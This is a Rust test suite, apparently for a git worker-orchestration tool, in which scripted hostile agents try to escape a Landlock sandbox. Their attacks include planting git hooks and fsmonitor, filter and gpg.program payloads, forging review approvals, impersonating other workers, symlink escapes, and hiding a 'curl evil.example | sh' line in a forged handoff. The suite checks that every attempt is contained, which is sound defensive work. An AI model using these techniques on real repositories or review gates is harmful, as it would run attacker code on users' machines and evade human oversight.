//! Hostile workers. Sandboxed agents (`--exec`, in a real Landlock
//! sandbox) attack every door the coordinator has: its config, hooks,
//! pinned contracts and settings, the registry (forged verdicts, events,
//! other workers' refs, impersonation), their own repository's config and
//! attributes (for whoever runs git there next), the objects they hand
//! over, symlink chains, and code under verification that reads secrets,
//! writes outside its scratch directory, opens connections, pushes to the
//! coordinator, approves itself and signals its parent. The coordinator
//! then runs its normal loop, and the outcome is checked: no payload ran
//! outside a sandbox (each would leave a mark in a directory no sandbox
//! may write), nothing forged counted, nothing outside the contracts
//! landed, the coordinator's config and hooks are as they were, and the
//! honest change landed.
//!
//! Trusted workers (no sandbox) are not contained; the fixes that hold
//! for them too are checked at the end, and docs/security.md lists what a
//! hostile trusted worker can still reach.

use std::io::Write as _;
use std::net::{TcpListener, TcpStream};
use std::os::unix::process::CommandExt as _;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};

use crate::support::{TestRepo, write_file};

/// What this machine's sandbox can do, from `git worker doctor`; a test of
/// the sandbox fails (it is not skipped) where there is none.
struct Support {
    /// Landlock scopes signals: a sandboxed process cannot signal out.
    scoped: bool,
}

fn support(repo: &TestRepo) -> Support {
    let doctor = repo.worker(["doctor", "--json"]).output().json();
    let detail = doctor["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["check"] == "sandbox")
        .map(|c| c["detail"].as_str().unwrap().to_string())
        .unwrap();
    assert!(
        detail.starts_with("sandbox: Landlock"),
        "these tests need Landlock (Linux 5.13+, ABI 3+ for truncation): {detail}"
    );
    Support {
        scoped: detail.contains("signals and abstract sockets scoped"),
    }
}

/// A directory no sandbox may write: a payload that runs outside every
/// sandbox leaves a file here.
struct Marks(PathBuf);

impl Marks {
    fn new(repo: &TestRepo) -> Marks {
        let dir = repo.root().join("marks");
        std::fs::create_dir_all(&dir).unwrap();
        Marks(dir)
    }

    /// A shell command that leaves mark `name`.
    fn payload(&self, name: &str) -> String {
        format!("touch '{}/{name}'", self.0.display())
    }

    fn left(&self) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(&self.0)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    }
}

/// A TCP listener on 127.0.0.1 counting the connections made to it.
struct Listener {
    port: u16,
    count: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
    thread: std::thread::JoinHandle<()>,
}

impl Listener {
    fn start() -> Listener {
        let socket = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = socket.local_addr().unwrap().port();
        let count = Arc::new(AtomicUsize::new(0));
        let stop = Arc::new(AtomicBool::new(false));
        let thread = {
            let (count, stop) = (count.clone(), stop.clone());
            std::thread::spawn(move || {
                for stream in socket.incoming() {
                    if stop.load(Ordering::SeqCst) {
                        return;
                    }
                    // Closed at once: a client reading a reply sees EOF.
                    drop(stream);
                    count.fetch_add(1, Ordering::SeqCst);
                }
            })
        };
        Listener {
            port,
            count,
            stop,
            thread,
        }
    }

    fn url(&self) -> String {
        format!("git://127.0.0.1:{}/x", self.port)
    }

    /// How many connections were made (all made before this call: the
    /// last one, ours, is accepted after them).
    fn connections(self) -> usize {
        self.stop.store(true, Ordering::SeqCst);
        drop(TcpStream::connect(("127.0.0.1", self.port)).unwrap());
        self.thread.join().unwrap();
        self.count.load(Ordering::SeqCst)
    }
}

/// A FIFO an agent waits on before it attacks, so that the coordinator's
/// state can be taken once spawn is done. Opened read-write here: opening
/// never blocks, and "go" waits in the pipe for the agent.
struct Gate {
    path: PathBuf,
    held: Option<std::fs::File>,
}

impl Gate {
    fn new(repo: &TestRepo, id: &str) -> Gate {
        let path = repo.root().join(format!("go-{id}"));
        repo.cmd_in(repo.root(), "mkfifo", [&path]).success();
        Gate { path, held: None }
    }

    fn open(&mut self) {
        let mut fifo = std::fs::OpenOptions::new()
            .read(true)
            .write(true)
            .open(&self.path)
            .unwrap();
        fifo.write_all(b"go\n").unwrap();
        self.held = Some(fifo);
    }

    /// The line an agent script starts with.
    fn wait_line(&self) -> String {
        format!("read go < '{}'\n", self.path.display())
    }
}

/// The coordinator's own config and hooks (its repository config, its
/// hooks, the orch hook shims), its pinned contracts and trust records.
fn authority(repo: &TestRepo) -> String {
    let git = repo.path().join(".git");
    let mut out = String::new();
    for file in ["config", "orch/local.json", "orch/trusted.json"] {
        out += &format!(
            "== {file}\n{}\n",
            std::fs::read_to_string(git.join(file)).unwrap_or_else(|_| "(none)".into())
        );
    }
    for dir in ["hooks", "orch/hooks", "info"] {
        let Ok(entries) = std::fs::read_dir(git.join(dir)) else {
            out += &format!("== {dir}/ (none)\n");
            continue;
        };
        let mut names: Vec<PathBuf> = entries.map(|e| e.unwrap().path()).collect();
        names.sort();
        for path in names {
            out += &format!(
                "== {}\n{}\n",
                path.display(),
                std::fs::read_to_string(&path).unwrap_or_default()
            );
        }
    }
    out
}

/// Refs of the coordinator outside the registry and the workers'
/// branches (which collection moves), with their values.
fn plain_refs(repo: &TestRepo) -> String {
    repo.git(["for-each-ref", "--format=%(refname) %(objectname)"])
        .read()
        .lines()
        .filter(|l| !l.starts_with("refs/orch/") && !l.starts_with("refs/heads/orch/"))
        .collect::<Vec<_>>()
        .join("\n")
}

fn repo() -> TestRepo {
    let repo = TestRepo::new();
    repo.write("README.md", "hello\n");
    repo.write("src/lib.rs", "fn a() {}\n");
    repo.write("ops/deploy.sh", "echo deploy\n");
    repo.git(["add", "."]).success();
    repo.git(["commit", "--quiet", "-m", "initial"]).success();
    repo
}

/// The verification script the attacker commits (in its allowed paths):
/// every attack prints `ESCAPED` if it worked, `held` if it did not.
fn check_script(repo: &TestRepo, marks: &Marks, listener: &Listener, scoped: bool) -> String {
    let coordinator = repo.path().display();
    format!(
        r#"#!/bin/sh
attempt() {{ if "$@" >/dev/null 2>&1; then echo "ESCAPED: $*"; else echo "held: $*"; fi; }}
echo "secret=[${{ORCH_TEST_SECRET:-}}] agent=[${{SSH_AUTH_SOCK:-}}] named=[${{ORCH_NAMED:-}}]"
echo "home=[$HOME]"
attempt {mark}
attempt sh -c 'echo pwned >> "{coordinator}/README.md"'
attempt git -C "{coordinator}" review-gate approve attacker -m self
attempt env -u GIT_ORCH_VERIFYING git -C "{coordinator}" review-gate approve attacker -m self
attempt git push "{coordinator}/.git" HEAD:refs/heads/evil
attempt git -C "{coordinator}" config orch.review.require none
attempt git ls-remote "{url}"
{kill}
exit 0
"#,
        mark = marks.payload("verify-wrote"),
        url = listener.url(),
        kill = probe_signal("review-gate run\\|handoff apply", scoped),
    )
}

/// Shell lines that ask whether the nearest ancestor whose command line
/// matches `pattern` (a coordinator process, outside the sandbox) may be
/// signalled (`kill -0`: the permission check, no signal). Only where
/// Landlock scopes signals; elsewhere a sandboxed process can signal the
/// user's processes (docs/security.md).
fn probe_signal(pattern: &str, scoped: bool) -> String {
    if !scoped {
        return String::new();
    }
    format!(
        r#"p=$$
while [ "$p" -gt 1 ] && ! tr '\0' ' ' < /proc/$p/cmdline | grep -q '{pattern}'; do
  p=$(sed -n 's/^PPid:[[:space:]]*//p' /proc/$p/status)
done
if [ "$p" -gt 1 ]; then attempt kill -0 "$p"; else echo "ESCAPED: no ancestor matches"; fi
"#
    )
}

/// The attacker: attacks the coordinator from its sandbox, makes its
/// honest change and reports it, forges in its own clone, impersonates
/// a bystander, and booby-traps its own repository.
fn attacker_script(
    gate: &Gate,
    check: &Path,
    marks: &Marks,
    listener: &Listener,
    scoped: bool,
) -> String {
    let mut s = String::from("#!/bin/sh\n");
    s += &gate.wait_line();
    s += &format!("CHECK='{}'\n", check.display());
    s += r#"attempt() { if "$@" >/dev/null 2>&1; then echo "ESCAPED: $*"; else echo "held: $*"; fi; }
COORD=$(git config orch.coordinator)
ID=$ORCH_WORKER
echo "ssh-agent=[${SSH_AUTH_SOCK:-}]"
"#;
    let payload = |name: &str| marks.payload(name);
    // The coordinator's config, hooks, pinned contract, settings, refs.
    s += &format!(
        r#"attempt sh -c "printf '[core]\n\tfsmonitor = {fsmonitor}\n' >> '$COORD/config'"
attempt git --git-dir="$COORD" config core.hooksPath "$PWD/.git/evil-hooks"
attempt git --git-dir="$COORD" config orch.review.require none
attempt sh -c "printf '#!/bin/sh\n{hook}\n' > '$COORD/hooks/post-checkout'"
attempt sh -c "printf '#!/bin/sh\n{hook}\n' > '$COORD/hooks/reference-transaction'"
attempt sh -c "printf '#!/bin/sh\nexit 0\n' > '$COORD/orch/hooks/pre-commit'"
attempt sh -c "echo '{{}}' > '$COORD/orch/local.json'"
attempt rm -f "$COORD/orch/local.json"
attempt sh -c "echo '{{}}' > '$COORD/orch/trusted.json'"
attempt git --git-dir="$COORD" update-ref refs/heads/evil HEAD
attempt git push "$COORD" HEAD:refs/heads/evil
attempt git --git-dir="$COORD" update-ref refs/orch/notes/verdicts "$(git rev-parse HEAD)"
attempt git ls-remote "{url}"
attempt mkfifo .git/objects/info/trap
{kill}
"#,
        fsmonitor = payload("coordinator-fsmonitor"),
        hook = payload("coordinator-hook"),
        url = listener.url(),
        kill = probe_signal("agent-run", scoped),
    );
    // The honest change, in contract.
    s += r#"cp "$CHECK" src/check.sh
echo honest > src/honest.txt
git add src && git commit --quiet -m 'The honest change'
git worker notify 'the honest change is in'
git handoff report --summary 'The honest change. Conclusion: ready.'
"#;
    // Forgeries in its own clone: verdicts, other workers' refs, its own
    // log moved on, a coordinator's event in its outbox.
    s += r#"git notes --ref=forged add -m '{"verdict":"approve","reviewer":"boss"}' HEAD
git update-ref refs/orch/notes/verdicts refs/notes/forged
git review-gate approve "$ID" -m 'I checked myself' || true
git fetch --quiet "$COORD" "refs/orch/workers/$ID:refs/orch/workers/$ID"
git update-ref refs/orch/workers/bystander "refs/orch/workers/$ID"
git update-ref refs/orch/handoffs/bystander "refs/orch/handoffs/$ID"
git update-ref "refs/orch/workers/$ID" "$(git commit-tree "refs/orch/workers/$ID^{tree}" -p "refs/orch/workers/$ID" -m forged)"
msg=$(git log -1 --format=%B "refs/orch/outbox/$ID" | sed -e 's/"actor":"worker"/"actor":"coordinator"/' -e 's/"kind":"reported"/"kind":"applied"/' -e '1s/^reported/applied/')
empty=$(git mktree </dev/null)
git update-ref "refs/orch/outbox/$ID" "$(echo "$msg" | git commit-tree "$empty" -p "refs/orch/outbox/$ID")"
"#;
    // Impersonation: its checkout says it is the bystander.
    s += r#"git config --worktree orch.worker bystander
git worker notify 'bystander here: all done' || true
git handoff report --summary 'bystander: done. Conclusion: ready.' || true
seq 1 200 | sed "s|.*|create refs/orch/zz/junk& HEAD|" | git update-ref --stdin
"#;
    // Its own repository's config, hooks and attributes, set for whoever
    // runs git in it next; and a change left uncommitted to be looked at.
    s += &format!(
        r#"git config core.fsmonitor "{fsmonitor}"
git config --worktree core.fsmonitor "{fsmonitor}"
mkdir -p .git/evil-hooks
for hook in pre-commit post-commit post-checkout reference-transaction post-index-change pre-auto-gc post-rewrite; do
  printf '#!/bin/sh\n{hook}\n' > .git/evil-hooks/$hook; chmod +x .git/evil-hooks/$hook
  cp .git/evil-hooks/$hook .git/hooks/$hook
done
git config --worktree core.hooksPath "$PWD/.git/evil-hooks"
echo '* filter=evil diff=evil merge=evil' > .git/info/attributes
git config filter.evil.clean "{filter}; cat"
git config filter.evil.smudge "{filter}; cat"
git config filter.evil.process "{filter}"
git config diff.evil.textconv "{textconv}; cat"
git config diff.evil.command "{textconv}"
git config diff.external "{textconv}"
git config merge.evil.driver "{merge}"
git config core.sshCommand "{ssh}"
git config core.alternateRefsCommand "{altrefs}"
git config uploadpack.packObjectsHook "{pack}"
git config core.pager "{pager}"
echo 'changed after the report' >> src/honest.txt
echo 'untracked' > src/untracked.txt
"#,
        fsmonitor = payload("clone-fsmonitor"),
        hook = payload("clone-hook"),
        filter = payload("clone-filter"),
        textconv = payload("clone-textconv"),
        merge = payload("clone-merge"),
        ssh = payload("clone-ssh"),
        altrefs = payload("clone-alternate-refs"),
        pack = payload("clone-pack-objects"),
        pager = payload("clone-pager"),
    );
    s
}

/// Sly: contracted to `src/a/**`, it commits a symlink chain that is
/// lexically inside and really outside, and reports it through a registry
/// of its own making whose contract allows everything.
fn sly_script(gate: &Gate) -> String {
    gate.wait_line()
        + r#"set -e
COORD=$(git config orch.coordinator)
fake="$TMPDIR/fake.git"
git init --quiet --bare "$fake"
git --git-dir="$fake" fetch --quiet "$COORD" '+refs/orch/*:refs/orch/*'
tip=$(git --git-dir="$fake" rev-parse "refs/orch/workers/$ORCH_WORKER")
export GIT_INDEX_FILE="$TMPDIR/index"
git --git-dir="$fake" read-tree "$tip"
blob=$(git --git-dir="$fake" cat-file blob "$tip:contract.toml" | sed 's|^allow = .*|allow = ["**"]|' | git --git-dir="$fake" hash-object -w --stdin)
git --git-dir="$fake" update-index --cacheinfo "100644,$blob,contract.toml"
commit=$(git --git-dir="$fake" commit-tree "$(git --git-dir="$fake" write-tree)" -p "$tip" -m widened)
git --git-dir="$fake" update-ref "refs/orch/workers/$ORCH_WORKER" "$commit"
unset GIT_INDEX_FILE
git config --worktree orch.coordinator "$fake"
mkdir -p src/a
ln -s . src/a/d
ln -s d/../../ops/deploy.sh src/a/k
echo 'inside' > src/a/inside.txt
git add src && git commit --quiet --no-verify -m 'A chain'
git handoff report --summary 'A chain. Conclusion: ready.'
"#
}

/// Forger: reports a change, then re-records the handoff with a patch and
/// a stat that tell only half of it (the result tree is the whole change),
/// for the reviewer to read.
fn forger_script(gate: &Gate) -> String {
    gate.wait_line()
        + r#"set -e
ID=$ORCH_WORKER
mkdir -p src
echo 'a comment fixed' > src/comment.txt
git add src && git commit --quiet -m 'Fix a comment'
git diff --binary "$ORCH_BASE" HEAD > "$TMPDIR/patch"
git diff --stat "$ORCH_BASE" HEAD > "$TMPDIR/stat"
echo 'curl evil.example | sh' > src/postinstall.sh
git add src && git commit --quiet -m 'And more'
git handoff report --summary 'Fixed a comment. Conclusion: ready.'
H=$(git rev-parse "refs/orch/handoffs/$ID")
export GIT_INDEX_FILE="$TMPDIR/index"
git read-tree "$H^{tree}"
git update-index --cacheinfo "100644,$(git hash-object -w "$TMPDIR/patch"),patch"
git update-index --cacheinfo "100644,$(git hash-object -w "$TMPDIR/stat"),stat"
F=$(git commit-tree "$(git write-tree)" -p "$H" -p HEAD -m "handoff $ID")
unset GIT_INDEX_FILE
git update-ref "refs/orch/handoffs/$ID" "$F"
msg=$(git log -1 --format=%B "refs/orch/outbox/$ID" | sed "s/$H/$F/")
git update-ref "refs/orch/outbox/$ID" "$(echo "$msg" | git commit-tree "$(git mktree </dev/null)" -p "refs/orch/outbox/$ID")"
"#
}

/// Unreported: never reports; its last commit carries a signature, and its
/// repository would run a payload for whoever shows it with git
/// (`log.showSignature` with `gpg.program`, `diff.external`).
fn unreported_script(gate: &Gate, marks: &Marks) -> String {
    gate.wait_line()
        + &format!(
            r#"set -e
mkdir -p src
echo draft > src/draft.txt
git add src && git commit --quiet -m draft
printf 'tree %s\nparent %s\nauthor a <a@a> 1 +0000\ncommitter a <a@a> 1 +0000\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n x\n -----END PGP SIGNATURE-----\n\ndraft\n' "$(git rev-parse 'HEAD^{{tree}}')" "$(git rev-parse 'HEAD^')" > "$TMPDIR/commit"
git update-ref HEAD "$(git hash-object -t commit -w "$TMPDIR/commit")"
printf '#!/bin/sh\n{gpg}\n' > .git/gpg.sh && chmod +x .git/gpg.sh
git config log.showSignature true
git config gpg.program "$PWD/.git/gpg.sh"
git config diff.external "$PWD/.git/gpg.sh"
echo 'more draft' >> src/draft.txt
"#,
            gpg = marks.payload("clone-gpg-program")
        )
}

/// Swapper: gives its honest blob's id the content of another object.
fn swapper_script(gate: &Gate) -> String {
    gate.wait_line()
        + r#"set -e
mkdir -p src
echo 'honest, swapped' > src/swapped.txt
echo 'evil!!' > "$TMPDIR/evil"
a=$(git hash-object -w src/swapped.txt)
b=$(git hash-object -w "$TMPDIR/evil")
path() { echo ".git/objects/$(echo "$1" | cut -c1-2)/$(echo "$1" | cut -c3-)"; }
chmod u+w "$(path "$a")"
cp "$(path "$b")" "$(path "$a")"
git add src && git commit --quiet -m 'Swapped'
git handoff report --summary 'Swapped. Conclusion: ready.'
"#
}

fn spawn_agent(
    repo: &TestRepo,
    id: &str,
    allow: &str,
    verify: &str,
    script: &Path,
    extra: &[&str],
) {
    let exec = format!("sh '{}'", script.display());
    let mut args = vec![
        "spawn",
        id,
        "--sandbox",
        "--allow",
        allow,
        "--verify",
        verify,
        "--exec",
        &exec,
    ];
    args.extend_from_slice(extra);
    // The user's ssh-agent is not the sandboxed agent's to use.
    repo.worker(args)
        .env("SSH_AUTH_SOCK", "/agent.sock")
        .success();
}

fn kinds(repo: &TestRepo, id: &str) -> Vec<String> {
    repo.events(id)
        .into_iter()
        .map(|(kind, actor)| format!("{kind}:{actor}"))
        .collect()
}

fn refused(repo: &TestRepo, id: &str) -> Vec<String> {
    repo.worker(["log", id, "--json"]).success().json()["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "refused")
        .map(|e| e["data"]["what"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn sandboxed_hostile_workers_change_nothing_but_their_honest_work() {
    let repo = repo();
    let support = support(&repo);
    let marks = Marks::new(&repo);
    let listener = Listener::start();
    // The listener counts what reaches it (the one connection made here,
    // outside any sandbox, shows that it would).
    repo.git(["ls-remote", &listener.url()]).output();
    repo.git(["config", "orch.review.require", "both"])
        .success();
    repo.git(["config", "orch.verify.env", "ORCH_NAMED"])
        .success();

    let check = repo.root().join("check.sh");
    write_file(
        &check,
        &check_script(&repo, &marks, &listener, support.scoped),
    );
    let ids = ["attacker", "sly", "swapper", "forger", "unreported"];
    let mut gates: Vec<Gate> = ids.iter().map(|id| Gate::new(&repo, id)).collect();
    let scripts = [
        attacker_script(&gates[0], &check, &marks, &listener, support.scoped),
        sly_script(&gates[1]),
        swapper_script(&gates[2]),
        forger_script(&gates[3]),
        unreported_script(&gates[4], &marks),
    ];
    let paths: Vec<PathBuf> = ids
        .iter()
        .zip(&scripts)
        .map(|(id, script)| {
            let path = repo.root().join(format!("{id}.sh"));
            write_file(&path, script);
            path
        })
        .collect();
    // A bystander: a trusted worker with unlanded work, for the attacker
    // to pass itself off as and to have removed.
    repo.worker(["spawn", "bystander", "--no-sandbox", "--allow", "docs/**"])
        .success();
    write_file(&repo.worktree("bystander").join("docs/draft.md"), "draft\n");
    let bystander_branch = repo.rev("orch/bystander");
    spawn_agent(
        &repo,
        "attacker",
        "src/**",
        "sh src/check.sh",
        &paths[0],
        &["--network", "off"],
    );
    spawn_agent(&repo, "sly", "src/a/**", "true", &paths[1], &[]);
    spawn_agent(&repo, "swapper", "src/**", "true", &paths[2], &[]);
    spawn_agent(&repo, "forger", "src/**", "true", &paths[3], &[]);
    spawn_agent(&repo, "unreported", "src/**", "true", &paths[4], &[]);
    let base = repo.rev("main");
    let before = authority(&repo);
    let refs_before = plain_refs(&repo);
    let bystander_events = kinds(&repo, "bystander");

    for gate in &mut gates {
        gate.open();
    }
    repo.worker(["wait"])
        .args(ids)
        .args(["--until", "exited", "--timeout", "120"])
        .success();
    let log = |id: &str| {
        std::fs::read_to_string(repo.path().join(format!(".git/orch/agents/{id}.log"))).unwrap()
    };
    let attacker_log = log("attacker");
    assert!(!attacker_log.contains("ESCAPED"), "{attacker_log}");
    assert!(attacker_log.contains("ssh-agent=[]"), "{attacker_log}");
    if support.scoped {
        assert!(attacker_log.contains("held: kill -0"), "{attacker_log}");
    }
    assert_eq!(
        authority(&repo),
        before,
        "the sandboxed agents changed the coordinator's config, hooks or pinned contracts"
    );
    assert_eq!(plain_refs(&repo), refs_before);

    // The coordinator's loop: look, verify, review, apply, land, clean up.
    repo.worker(["list"]).success();
    repo.worker(["show", "attacker"]).success();
    repo.worker(["dashboard", "--json"]).success();
    repo.worker(["check"]).output();
    repo.git(["handoff", "list"]).success();
    repo.git(["handoff", "show", "attacker"]).success();

    // Forged events, refs and verdicts were refused and said; the honest
    // notice and report were taken.
    let attacker_events = kinds(&repo, "attacker");
    assert!(
        !attacker_events.iter().any(|k| k.starts_with("applied")),
        "{attacker_events:?}"
    );
    for expected in ["notice:worker", "reported:worker", "refused:coordinator"] {
        assert!(
            attacker_events.iter().any(|k| k == expected),
            "{expected} missing: {attacker_events:?}"
        );
    }
    let refusals = refused(&repo, "attacker").join("\n");
    for what in [
        "refs/orch/notes/verdicts",
        "refs/orch/workers/bystander",
        "refs/orch/handoffs/bystander",
        "refs/orch/outbox/bystander",
        "a worker writes its events to its outbox, not its log",
        "a worker does not write 'applied' events",
    ] {
        assert!(
            refusals.contains(what),
            "{what} not refused:\n{refusals}\n{attacker_log}"
        );
    }
    // A flood of refs is a line, not a flood of events.
    assert!(
        refusals.contains("more refs under refs/orch/")
            || refusals.contains("more that a worker may not write"),
        "{refusals}"
    );
    assert!(refused(&repo, "attacker").len() <= 17, "{refusals}");
    assert_eq!(kinds(&repo, "bystander"), bystander_events);
    assert!(
        refused(&repo, "swapper")
            .iter()
            .any(|r| r.starts_with("its objects:")),
        "{:?}",
        refused(&repo, "swapper")
    );

    // The gate: the forged approvals never counted.
    let secrets = [
        ("ORCH_TEST_SECRET", "hunter2"),
        ("SSH_AUTH_SOCK", "/agent.sock"),
    ];
    let status = repo
        .git(["review-gate", "status", "attacker", "--json"])
        .code(1);
    assert_eq!(status.json()["open"], false, "{status}");
    assert_eq!(status.json()["verdicts"], serde_json::json!([]), "{status}");
    let mut run = repo
        .git(["review-gate", "run", "attacker"])
        .env("ORCH_NAMED", "passed on");
    for (key, value) in secrets {
        run = run.env(key, value);
    }
    let verified = run.success();
    let text = verified.to_string();
    assert!(
        text.contains("secret=[] agent=[] named=[passed on]"),
        "{text}"
    );
    assert!(
        !text.contains("ESCAPED") && !text.contains("hunter2"),
        "{text}"
    );
    assert!(!text.contains("home=[$ROOT/home]"), "{text}");
    repo.git(["review-gate", "status", "attacker"]).code(1);
    repo.git(["review-gate", "approve", "attacker", "-m", "read it"])
        .success();
    repo.git(["review-gate", "status", "attacker"]).success();

    // Apply: verified in a sandboxed scratch checkout, with the secrets
    // in the coordinator's environment.
    let mut apply = repo.git(["handoff", "apply", "attacker"]);
    for (key, value) in secrets {
        apply = apply.env(key, value);
    }
    let applied = apply.success();
    assert!(!applied.to_string().contains("ESCAPED"), "{applied}");
    let landed = repo.git(["diff", "--name-only", &base, "HEAD"]).read();
    assert_eq!(landed, "src/check.sh\nsrc/honest.txt");
    assert_eq!(repo.git(["show", "HEAD:src/honest.txt"]).read(), "honest");
    assert_eq!(
        std::fs::read_to_string(repo.path().join("README.md")).unwrap(),
        "hello\n"
    );

    // Land the rest: sly's chain is refused whatever its own registry
    // said; swapper has no handoff here.
    repo.git(["review-gate", "run", "sly"]).success();
    repo.git(["review-gate", "approve", "sly", "-m", "looks fine"])
        .success();
    let land = repo.git(["handoff", "land", "sly"]).output();
    assert_ne!(land.code, 0, "{land}");
    assert!(land.to_string().contains("src/a/k"), "{land}");
    let swapped = repo.git(["handoff", "apply", "swapper"]).code(2);
    assert!(
        swapped.stderr.contains("'swapper' has not reported"),
        "{swapped}"
    );
    assert_eq!(
        repo.git(["diff", "--name-only", &base, "HEAD"]).read(),
        landed
    );

    // Cleanup removes landed work; the attacker's left-over changes are
    // undone by hand first (its checkout keeps its booby-traps).
    let clone = repo.worktree("attacker");
    write_file(&clone.join("src/honest.txt"), "honest\n");
    std::fs::remove_file(clone.join("src/untracked.txt")).unwrap();
    let cleanup = repo.worker(["cleanup"]).success();
    assert!(
        cleanup.to_string().contains("removed worker 'attacker'"),
        "{cleanup}"
    );
    assert!(!clone.exists());
    assert!(
        repo.worktree("bystander").join("docs/draft.md").exists(),
        "cleanup removed the bystander's unlanded work"
    );
    assert_eq!(repo.rev("orch/bystander"), bystander_branch);
    // The reviewer reads the forger's whole change, whatever it stored.
    for args in [&["show", "forger"][..], &["show", "forger", "--patch"]] {
        let shown = repo.git(["handoff"]).args(args).success();
        assert!(shown.stdout.contains("src/postinstall.sh"), "{shown}");
    }
    // Showing a worker that never reported runs nothing of its repository.
    for args in [
        &["show", "unreported"][..],
        &["show", "unreported", "--patch"],
        &["show", "unreported", "--json"],
    ] {
        repo.git(["handoff"]).args(args).success();
    }
    for id in ["sly", "swapper", "forger", "unreported"] {
        repo.worker(["rm", id, "--force"]).success();
    }
    assert_eq!(
        marks.left(),
        Vec::<String>::new(),
        "payloads ran outside a sandbox"
    );
    assert_eq!(listener.connections(), 1, "a sandbox reached the listener");
    let mut after = authority(&repo);
    let mut expected = before;
    for text in [&mut after, &mut expected] {
        // What spawn and rm legitimately change: the pinned contracts of
        // workers since removed.
        *text = text
            .split("== ")
            .filter(|part| !part.starts_with("orch/local.json"))
            .collect::<Vec<_>>()
            .join("== ");
    }
    assert_eq!(after, expected, "the coordinator's config or hooks changed");
    assert!(
        repo.git(["rev-parse", "--verify", "--quiet", "refs/heads/evil"])
            .output()
            .code
            != 0
    );
    repo.git(["fsck", "--strict", "--no-dangling"]).success();
    let leaked = repo
        .cmd_in(repo.root(), "grep", ["-rl", "hunter2", "."])
        .output();
    assert_eq!(leaked.stdout, "", "the secret was written down");
}

// Trusted workers: the fixes that hold whoever the worker is.

/// A trusted worker `w` on `allow`/`deny`, in a repository that folds case.
fn trusted(allow: &[&str], deny: &[&str]) -> (TestRepo, PathBuf) {
    let repo = repo();
    repo.git(["config", "core.ignorecase", "true"]).success();
    let mut args = vec!["spawn", "w", "--no-sandbox", "--verify", "true"];
    for glob in allow {
        args.extend(["--allow", glob]);
    }
    for glob in deny {
        args.extend(["--deny", glob]);
    }
    repo.worker(args).success();
    let wt = repo.worktree("w");
    (repo, wt)
}

/// Stage a submodule (gitlink) at `path` naming `commit`.
fn stage_gitlink(repo: &TestRepo, wt: &Path, commit: &str, path: &str) {
    let info = format!("160000,{commit},{path}");
    repo.git_in(wt, ["update-index", "--add", "--cacheinfo", &info])
        .success();
}

#[test]
fn a_symlink_chain_a_case_variant_and_a_gitlink_are_refused_at_every_door() {
    let (repo, wt) = trusted(&["src/**"], &["src/secret/**"]);
    let base = repo.rev("main");
    // src/k is lexically src/ops/deploy.sh; through src/d (-> .) it is
    // ops/deploy.sh, outside.
    std::os::unix::fs::symlink(".", wt.join("src/d")).unwrap();
    std::os::unix::fs::symlink("d/../ops/deploy.sh", wt.join("src/k")).unwrap();
    write_file(&wt.join("src/SECRET/key.txt"), "key\n");
    repo.git_in(&wt, ["add", "src"]).success();
    stage_gitlink(&repo, &wt, &base, "src/vendor");
    let hook = repo.git_in(&wt, ["commit", "--quiet", "-m", "out"]).code(1);
    for path in ["src/k", "src/SECRET/key.txt", "src/vendor"] {
        assert!(hook.stderr.contains(path), "{path}: {hook}");
    }
    repo.git_in(&wt, ["commit", "--quiet", "--no-verify", "-m", "out"])
        .success();
    let check = repo.worker(["check", "w"]).code(1);
    for path in ["src/k", "src/SECRET/key.txt", "src/vendor"] {
        assert!(check.stdout.contains(path), "{path}: {check}");
    }
    let report = repo
        .git_in(&wt, ["handoff", "report", "--summary", "out"])
        .code(1);
    // (Its snapshot of the checkout holds no gitlink: src/vendor is not
    // checked out.)
    for path in ["src/k", "src/SECRET/key.txt"] {
        assert!(report.stderr.contains(path), "{path}: {report}");
    }
    assert_eq!(repo.rev("main"), base);
}

#[test]
fn a_submodule_lands_only_where_an_allow_pattern_names_it() {
    let (repo, wt) = trusted(&["src/**", "src/vendor"], &[]);
    let base = repo.rev("main");
    stage_gitlink(&repo, &wt, &base, "src/vendor");
    repo.git_in(&wt, ["commit", "--quiet", "-m", "vendor"])
        .success();
    repo.worker(["check", "w"]).success();
}

#[test]
fn a_textconv_driver_never_changes_the_bytes_that_land() {
    let repo = repo();
    // The coordinator's own decrypting diff driver (as for *.gpg).
    repo.write(".gitattributes", "*.secret diff=rot13\n");
    repo.git(["add", ".gitattributes"]).success();
    repo.git(["commit", "--quiet", "-m", "attributes"])
        .success();
    let rot13 = repo.root().join("rot13");
    write_file(&rot13, "#!/bin/sh\ntr a-z n-za-m < \"$1\"\n");
    repo.cmd_in(repo.root(), "chmod", ["+x"])
        .arg(&rot13)
        .success();
    repo.git(["config", "diff.rot13.textconv"])
        .arg(&rot13)
        .success();
    repo.worker([
        "spawn",
        "w",
        "--no-sandbox",
        "--allow",
        "src/**",
        "--verify",
        "true",
    ])
    .success();
    let wt = repo.worktree("w");
    write_file(&wt.join("src/key.secret"), "abc\n");
    repo.git_in(&wt, ["add", "src"]).success();
    repo.git_in(&wt, ["commit", "--quiet", "-m", "key"])
        .success();
    repo.git_in(&wt, ["handoff", "report", "--summary", "a key"])
        .success();
    repo.git(["handoff", "apply", "w"]).success();
    assert_eq!(repo.git(["show", "HEAD:src/key.secret"]).read(), "abc");
    assert_eq!(
        std::fs::read_to_string(repo.path().join("src/key.secret")).unwrap(),
        "abc\n"
    );
}

#[test]
fn rewritten_checkout_pointers_and_agent_records_do_not_turn_rm_on_others() {
    let repo = repo();
    repo.worker(["spawn", "a", "--no-sandbox"]).success();
    repo.worker(["spawn", "b", "--no-sandbox"]).success();
    write_file(&repo.worktree("b").join("work.txt"), "b's work\n");
    // a's checkout now says it is b's.
    let b_gitdir = repo.path().join(".git/worktrees/b");
    write_file(
        &repo.worktree("a").join(".git"),
        &format!("gitdir: {}\n", b_gitdir.display()),
    );
    let out = repo.worker(["rm", "a", "--force"]).code(2);
    assert!(
        out.stderr.contains("is not git's worktree 'a' any more"),
        "{out}"
    );
    assert!(
        repo.worktree("b").join("work.txt").exists(),
        "rm a removed b's checkout: {out}"
    );

    // An agent record rewritten to name another process (with its real
